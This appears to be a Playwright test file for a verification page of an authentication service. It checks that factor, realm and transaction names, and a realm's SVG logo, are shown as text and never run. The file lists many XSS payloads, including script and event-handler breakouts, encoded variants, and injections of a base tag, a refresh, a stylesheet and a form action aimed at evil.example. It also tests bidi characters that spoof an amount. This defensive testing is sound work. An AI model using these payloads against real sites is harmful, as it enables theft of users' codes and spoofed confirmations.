/**
 * Somebody gives a factor, an application, a realm or a transaction a name that is markup, or a script, or
 * turns the text around it: on a page that others trust it would read their codes, or show them another amount
 * than the one that is confirmed.
 */
import type { Browser, Page } from 'playwright-core';
import { Realms } from '../../src/applications/realms.js';
import type { Registered } from '../support/application.js';
import { enrol } from '../support/authenticator.js';
import { openWindow, startBrowser, startHosted, type Hosted } from '../support/browser.js';
import { addressOf, makeLink } from '../support/links.js';

const REDIRECT = 'http://localhost:1/';

/** Texts that have run in somebody's page. */
const corpus = [
  '<script>hacked()</script>',
  '"><script>hacked()</script>',
  "'><script>hacked()</script>",
  '</title><script>hacked()</script>',
  '</script><script>hacked()</script>',
  '</style><script>hacked()</script>',
  '</textarea><script>hacked()</script>',
  '--><script>hacked()</script>',
  ']]><script>hacked()</script>',
  '<img src=x onerror=hacked()>',
  '<svg/onload=hacked()>',
  '<svg><animate onbegin=hacked() attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.hacked()</script>">',
  '<a href="javascript:hacked()">x</a>',
  '" autofocus onfocus="hacked()" x="',
  "' onmouseover='hacked()' x='",
  '` onmouseover=`hacked()`',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<form action="https://evil.example/"><input name=code>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hacked()>">',
  '{{constructor.constructor("hacked()")()}}',
  '${hacked()}',
  '{application}{time}{number}',
  '&lt;script&gt;hacked()&lt;/script&gt;',
  '&#60;script&#62;hacked()&#60;/script&#62;',
  '\\u003cscript\\u003ehacked()\\u003c/script\\u003e',
  '%3Cscript%3Ehacked()%3C/script%3E',
  '＜script＞hacked()＜/script＞',
  'javascript:hacked()',
];

/** Those that end what a name stands in: a title, a text, an attribute, a style; and one for each that does not. */
const breakouts = corpus.filter((text) =>
  /^<script>|^"|^'|^<\/(title|style|script)|^--|^\{|^&lt/.test(text),
);

let service: Hosted;
let browser: Browser;
let turn = 0;

beforeAll(async () => {
  service = await startHosted();
  browser = await startBrowser();
}, 120_000);
afterAll(async () => {
  await browser.close();
  await service.close();
});

/** Opens the verify page of a link and looks whether anything has run in it, or come into it. */
async function look(
  shop: Registered,
  body: Record<string, unknown>,
  check: (page: Page) => Promise<void>,
) {
  const { context, page, faults } = await openWindow(browser, [service]);
  await page.addInitScript('window.hacked = () => { window.wasHacked = true; }');
  const whole = { purpose: 'verify', redirect_uri: REDIRECT, ...body };
  await page.goto(addressOf(await makeLink(service, shop, whole)).href);
  await page.waitForURL('**/verify');
  await page.getByRole('textbox', { name: 'Code' }).press('1');
  expect(await page.evaluate('window.wasHacked === true')).toBe(false);
  // What we have put there, and nothing that has come along in a text.
  expect(await page.locator('script, iframe, base, object, embed').count()).toBe(2);
  expect(await page.locator('form').count()).toBe(2);
  await check(page);
  expect(faults).toEqual([]);
  await context.close();
}

it('S104: shows what is confirmed as it is, and runs nothing of it', async () => {
  const shop = await service.register('realm', 'shop', { redirectUris: [REDIRECT] });
  await enrol(service, 'ann', { key: shop.key });
  for (let from = 0; from < corpus.length; from += 16) {
    const texts = corpus.slice(from, from + 16);
    const transaction = Object.fromEntries(
      texts.map((text, index) => [text, index % 2 === 0 ? text : { [text]: [text] }]),
    );
    await look(shop, { user_id: 'ann', transaction }, async (page) => {
      expect(await page.locator('dd').allInnerTexts()).toEqual(texts);
      expect(await page.locator('dt').allInnerTexts()).toEqual(
        texts.map((text, index) => (index % 2 === 0 ? text : `${text} › ${text} › 1`)),
      );
    });
  }
});

it.each(breakouts)('S104: whatever is called %j', async (text) => {
  // A colon ends the issuer in a key URI, so no realm has one.
  const realm = `${text.replaceAll(':', ';').slice(0, 50)} ${++turn}`;
  const shop = await service.register(realm, `${text} ${turn}`, { redirectUris: [REDIRECT] });
  const user = `${text} ${turn}`;
  const name = text.slice(0, 64);
  await enrol(service, user, { key: shop.key, body: { name, account_name: 'x', issuer: 'x' } });
  await look(shop, { user_id: user, state: text }, async (page) => {
    expect(await page.locator('.brand').innerText()).toBe(realm);
    expect(await page.locator('#ask bdi').innerText()).toBe(name);
    expect(await page.title()).toBe(`Confirm that it is you · ${realm}`);
  });
});

it('S104: signs that turn text around, or cannot be seen, are seen', async () => {
  const shop = await service.register('bidi', 'shop', { redirectUris: [REDIRECT] });
  await enrol(service, 'ann', { key: shop.key });
  const transaction = { amount: '\u202e00.001\u202c EUR', payee: 'A\u200bnn\u2066', 'k\u202ey': 1 };
  const body = { user_id: 'ann', purpose: 'verify', redirect_uri: REDIRECT, transaction };
  const { context, page } = await openWindow(browser, [service]);
  await page.goto(addressOf(await makeLink(service, shop, body)).href);
  await page.waitForURL('**/verify');
  expect(await page.locator('dd').allInnerTexts()).toEqual([
    '\ufffd00.001\ufffd EUR',
    'A\ufffdnn\ufffd',
    '1',
  ]);
  expect(await page.locator('dt').allInnerTexts()).toContain('k\ufffdy');
  await context.close();
});

it('S104: a realm’s logo runs nothing, in the page or by itself', async () => {
  const shop = await service.register('logo', 'shop', { redirectUris: [REDIRECT] });
  await enrol(service, 'bob', { key: shop.key });
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="40" onload="top.wasHacked=true">
    <script>top.wasHacked = true; document.title = 'hacked'</script>
    <image href="https://evil.example/x.png"/></svg>`;
  const { id } = await service.app
    .get(Realms)
    .update(shop.application.realmId, { logo: Buffer.from(svg) });
  const body = { user_id: 'bob', purpose: 'verify', redirect_uri: REDIRECT };
  const { context, page, faults } = await openWindow(browser, [service]);
  await page.goto(addressOf(await makeLink(service, shop, body)).href);
  await page.waitForURL('**/verify');
  const source = await page.getByRole('img', { name: 'logo' }).getAttribute('src');
  expect(source).toMatch(new RegExp(`^/p/logo/${id}/[0-9a-f]{16}$`));
  expect(await page.evaluate('window.wasHacked === true')).toBe(false);
  expect(faults).toEqual([]);
  await page.goto(`${service.url}${source}`);
  expect(await page.evaluate('window.wasHacked === true')).toBe(false);
  expect(await page.title()).not.toBe('hacked');
  await context.close();
});
